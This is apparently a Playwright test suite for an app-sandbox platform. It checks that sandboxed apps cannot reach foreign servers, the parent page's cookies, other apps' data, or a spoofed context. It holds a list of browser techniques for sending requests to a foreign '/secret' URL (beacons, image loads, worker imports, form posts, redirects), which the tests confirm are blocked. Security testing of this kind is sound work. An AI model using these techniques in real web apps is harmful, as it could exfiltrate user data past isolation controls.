"""An app reaches nothing but itself and the platform's API: a real second server is asked for nothing."""

from __future__ import annotations

import time
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Frame, Page, StorageState

from tests.e2e.conftest import NewProfile, RunningPlatform
from tests.e2e.foreign import ForeignServer, foreign_server
from tests.e2e.opened import open_frame, publish_app, signed_in


@pytest.fixture
def elsewhere() -> Iterator[ForeignServer]:
    with foreign_server() as server:
        yield server


@pytest.fixture(scope="module")
def app_id(platform: RunningPlatform, tmp_path_factory: pytest.TempPathFactory) -> str:
    return publish_app(platform, tmp_path_factory.mktemp("bundles"))


@pytest.fixture(scope="module")
def alice(browser: Browser, platform: RunningPlatform, app_id: str) -> StorageState:
    return signed_in(browser, platform, app_id)


@pytest.fixture
def page(new_profile: NewProfile, alice: StorageState) -> Page:
    return new_profile(storage_state=alice).new_page()


@pytest.fixture
def frame(page: Page, app_id: str) -> Frame:
    return open_frame(page, app_id)


ATTEMPTS = {
    "fetch": "fetch(url).catch(() => {})",
    "no-cors": "fetch(url, {mode: 'no-cors'}).catch(() => {})",
    "xhr": "x = new XMLHttpRequest(); x.open('GET', url); x.send()",
    "beacon": "navigator.sendBeacon(url, 'x')",
    "image": "new Image().src = url",
    "script": "document.head.append(Object.assign(document.createElement('script'), {src: url}))",
    "style": "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: url}))",
    "prefetch": "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: url}))",
    "css": "document.body.style.backgroundImage = `url(${url})`",
    "font": "new FontFace('f', `url(${url})`).load().catch(() => {})",
    "audio": "new Audio(url).load()",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: url}))",
    "object": "document.body.append(Object.assign(document.createElement('object'), {data: url}))",
    "socket": "try { new WebSocket(url.replace('http', 'ws')) } catch {}",
    "events": "new EventSource(url)",
    "worker": "try { new Worker(url) } catch {}",
    "worker fetch": "new Worker(URL.createObjectURL(new Blob([`fetch('${url}').catch(() => {})`])))",
    "worker import": "new Worker(URL.createObjectURL(new Blob([`importScripts('${url}')`])))",
    "import": "import(url).catch(() => {})",
    "form": "f = document.createElement('form'); f.action = url; document.body.append(f); f.submit()",
    "post": "f = document.createElement('form'); f.action = url; f.method = 'post'; document.body.append(f);"
    " f.submit()",
    "top": "try { top.location = url } catch {}",
    "self": "location = url",
    "refresh": "document.head.append(Object.assign(document.createElement('meta'),"
    " {httpEquiv: 'refresh', content: `0;url=${url}`}))",
}


@pytest.mark.parametrize("way", ATTEMPTS)
def test_no_request_leaves_for_a_foreign_origin(page: Page, frame: Frame, elsewhere: ForeignServer, way: str) -> None:
    frame.evaluate(f"(url) => {{ let x, f; {ATTEMPTS[way]}; }}", f"{elsewhere.url}/secret")
    # Whatever was under way has arrived when a later request of the same browser to the same server has.
    time.sleep(0.3)
    page.request.get(f"{elsewhere.url}/after")
    assert elsewhere.asked == ["GET /after"]
    assert page.url.endswith("/open")


def test_the_page_around_other_apps_and_cookies_are_out_of_reach(page: Page, frame: Frame) -> None:
    found = frame.evaluate(
        """async () => {
        const tried = async (what) => { try { return String(await what()) } catch (error) { return error.name } };
        return {
            origin: self.origin,
            cookie: document.cookie,
            parent: await tried(() => parent.document.cookie),
            parentStorage: await tried(() => parent.localStorage.length),
            page: await tried(() => fetch("/account")),
            withCookies: await tried(() => fetch("/account", { credentials: "include" })),
            admin: await tried(() => fetch("/admin/")),
            api: await tried(async () => (await fetch("/api/me")).status),
            frame: await tried(() => { const f = document.createElement("iframe"); f.src = "/account";
                document.body.append(f); return f.contentDocument; }),
        }; }"""
    )
    assert found == {
        "origin": "null",
        "cookie": "",
        "parent": "SecurityError",
        "parentStorage": "SecurityError",
        "page": "TypeError",
        "withCookies": "TypeError",
        "admin": "TypeError",
        "api": "401",
        "frame": "null",
    }


def test_the_token_is_good_for_this_app_only(frame: Frame) -> None:
    frame.evaluate("localStorage.mine = '1'")
    statuses = frame.evaluate(
        """async () => {
        const { context, request } = window[Symbol.for("dot.runtime")];
        const status = async (path) => (await request(context.api + path)).status;
        const own = `/apps/${context.app_id}/data`;
        return [await status(own), await status("/apps/notes/data"), await status("/me/apps")];
        }"""
    )
    assert statuses[0] == 200
    assert statuses[1] == 404
    assert statuses[2] in {401, 403}


def test_a_foreign_page_cannot_hand_in_a_context_of_its_own(
    new_profile: NewProfile, frame: Frame, elsewhere: ForeignServer
) -> None:
    page = new_profile().new_page()
    page.goto(f"{elsewhere.url}/framing")
    page.evaluate(
        """(url) => { const f = document.createElement("iframe"); f.src = url;
        const app_id = url.split("/")[4];
        f.name = JSON.stringify({ app_id, token: "dot_run_theirs", api: "http://x", storage: { entries: {} } });
        document.body.append(f); }""",
        frame.url,
    )
    framed = page.locator("iframe").element_handle()
    assert framed
    inside = framed.content_frame()
    assert inside
    inside.wait_for_url("**/run/**")
    inside.wait_for_load_state("load")
    assert inside.evaluate("window[Symbol.for('dot.runtime')].context") is None
